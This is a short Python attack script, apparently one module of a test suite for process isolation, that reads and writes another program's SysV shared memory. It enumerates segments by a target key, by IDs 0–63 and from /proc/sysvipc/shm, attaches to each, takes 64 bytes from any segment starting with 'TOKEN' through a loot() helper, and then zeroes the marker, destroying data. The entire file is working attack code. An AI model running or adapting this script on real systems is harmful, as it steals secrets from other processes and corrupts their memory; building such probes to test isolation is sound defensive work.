"""Read and write SysV shared memory of a program outside, by its key and by every number."""

# aims: outside
# control: harms
import ctypes

from attack import libc, loot, target, tried

libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
tried()
found = [libc.shmget(int(target["shm_key"]), 0, 0), *range(64)]
for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
    print(line)
    found.append(int(line.split()[1]))
for segment in dict.fromkeys(found):
    at = libc.shmat(segment, None, 0) if segment >= 0 else None
    if at and at != ctypes.c_void_p(-1).value and ctypes.string_at(at, 5) == b"TOKEN":
        loot(ctypes.string_at(at, 64))
        ctypes.memset(at, 0, 5)
